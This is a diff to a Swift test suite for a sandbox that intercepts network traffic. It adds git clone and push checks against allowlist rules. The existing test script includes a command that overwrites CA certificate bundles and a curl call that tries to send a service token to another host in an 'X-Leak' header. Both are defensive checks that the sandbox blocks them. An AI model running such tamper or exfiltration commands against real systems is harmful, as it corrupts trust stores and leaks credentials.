@@ -30,6 +30,9 @@ final class RemoteInterceptionTests: XCTestCase {
         echo "== system store"; env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS https://$H/system; echo " system exit=$?"
         echo "== trust"; echo "SSL_CERT_FILE=$SSL_CERT_FILE"; grep -c 'BEGIN CERTIFICATE' /run/burrow/ca-bundle.crt
         echo "== tamper"; { echo junk > /run/burrow/ca-bundle.crt; echo junk > /etc/ssl/certs/ca-certificates.crt; } 2>&1; echo "tamper done"
+        echo "== clone"; git clone https://$H/owner/repo.git /tmp/clone 2>&1; echo "clone exit=$?"; cat /tmp/clone/README
+        echo "== push"; cd /tmp/clone && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m pushed \\
+          && git push origin HEAD:refs/heads/pushed 2>&1; echo "push exit=$?"; cd /
         echo "== use"; curl -sS -H "Authorization: Bearer $SVC_TOKEN" https://$H/me; echo " use exit=$?"
         echo "== leak"; curl -sS -k -H "X-Leak: $SVC_TOKEN" https://$O/leak; echo " leak exit=$?"
         echo "== end"
@@ -41,7 +44,7 @@ final class RemoteInterceptionTests: XCTestCase {
             config.network = NetworkConfig(mode: .allowlist)
             config.network.allow = [host, other]
             config.network.resolve = ["service.test": "127.0.0.1", "other.test": "127.0.0.1"]
-            config.network.rules = [host: ["GET /**"], other: ["GET /**", "POST /**"]]
+            config.network.rules = [host: NetworkConfig.defaultRules["github.com"]!, other: ["GET /**", "POST /**"]]
             config.network.extraCAs = [service.caFile]
             config.credentials.services = [ServiceCredential(name: "svc", hosts: [host], header: "Authorization", format: "Bearer {secret}",
                                                              source: .init(file: secretFile), placeholder: "SVC_TOKEN")]
@@ -96,6 +99,8 @@ final class RemoteInterceptionTests: XCTestCase {
                       "the system store is the bundle: \(section("system store"))")
         XCTAssertTrue(section("trust").contains("SSL_CERT_FILE=/run/burrow/ca-bundle.crt"), section("trust"))
         XCTAssertTrue(section("tamper").contains("Read-only file system"), "the box cannot change its trust: \(section("tamper"))")
+        XCTAssertTrue(section("clone").contains("clone exit=0") && section("clone").contains("served over https"), "git trusts the CA: \(section("clone"))")
+        XCTAssertTrue(section("push").contains("403") && !section("push").contains("push exit=0"), "the default rules refuse a push: \(section("push"))")
         XCTAssertTrue(section("use").contains("GET /me auth=yes") && section("use").contains("use exit=0"), section("use"))
         XCTAssertTrue(section("leak").contains("exfiltration"), section("leak"))
         XCTAssertFalse(all.contains(secret), "the secret never reached the box")
@@ -103,6 +108,7 @@ final class RemoteInterceptionTests: XCTestCase {
         XCTAssertTrue(served.contains("Authorization=Bearer \(secret)"), "the service got the secret in the box's place: \(served)")
         XCTAssertFalse(served.contains("POST /hello") || served.contains("/insecure"), "nothing refused reached the service: \(served)")
         XCTAssertFalse(served.contains("/leak"), "nothing with the placeholder left toward the other host: \(served)")
+        XCTAssertTrue(served.contains("POST /owner/repo.git/git-upload-pack") && !served.contains("git-receive-pack"), served)
         let net = events.filter { $0.kind == "net" }.compactMap { try? JSONDecoder().decode(NetEvent.self, from: Data($0.data.utf8)) }
         XCTAssertTrue(net.contains { $0.phase == .denied && $0.decidedBy == "rule" && $0.method == "POST" && $0.path == "/hello" }, "\(net)")
         XCTAssertFalse(events.map(\.data).joined().contains(secret), "the secret is in no event")
